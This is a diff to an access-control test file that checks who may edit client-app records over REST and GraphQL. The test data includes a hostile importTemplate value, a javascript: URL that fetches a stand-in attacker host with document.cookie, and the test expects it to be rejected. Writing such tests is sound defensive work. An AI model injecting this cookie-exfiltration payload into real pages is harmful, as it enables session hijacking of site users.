@@ -249,7 +249,9 @@ test('client apps are read by anyone and written by staff only, over REST and Gr
     expect((await request.patch(`/api/client-apps/${target.id}`, { headers: auth, data: { storeUrl: 'https://evil.example/app' } })).status()).toBe(403)
     expect((await request.delete(`/api/client-apps/${target.id}`, { headers: auth })).status()).toBe(403)
     const mutation = await graphql(request, auth, `mutation { updateClientApp(id: ${target.id}, data: { storeUrl: "https://evil.example/app" }) { storeUrl } }`)
-    expect(mutation.errors?.[0]?.message).toBeTruthy()
+    // Payload's Forbidden, in the site's default language.
+    expect(mutation.data?.updateClientApp ?? null).toBeNull()
+    expect(mutation.errors?.[0]?.message).toBe('У вас нет права на выполнение этого действия.')
   }
   const after = (await (await request.get(`/api/client-apps/${target.id}?depth=0`)).json()) as { storeUrl: string }
   expect(after.storeUrl).not.toContain('evil.example')
@@ -259,4 +261,8 @@ test('client apps are read by anyone and written by staff only, over REST and Gr
   const refused = await request.post('/api/client-apps', { headers: { ...editorAuth, 'accept-language': 'ru' }, data: { ...hostile, importTemplate: 'javascript:fetch(`//evil.example?${document.cookie}`)//{url}' } })
   expect(refused.status()).toBe(400)
   expect(JSON.stringify(await refused.json())).toContain('importTemplate')
+  // The same mutation is the editor's to make: the refusals above are about who asks, not about the request.
+  const allowed = await graphql(request, editorAuth, `mutation { updateClientApp(id: ${target.id}, data: { storeUrl: "${after.storeUrl}" }) { storeUrl } }`)
+  expect(allowed.errors).toBeUndefined()
+  expect(allowed.data).toEqual({ updateClientApp: { storeUrl: after.storeUrl } })
 })
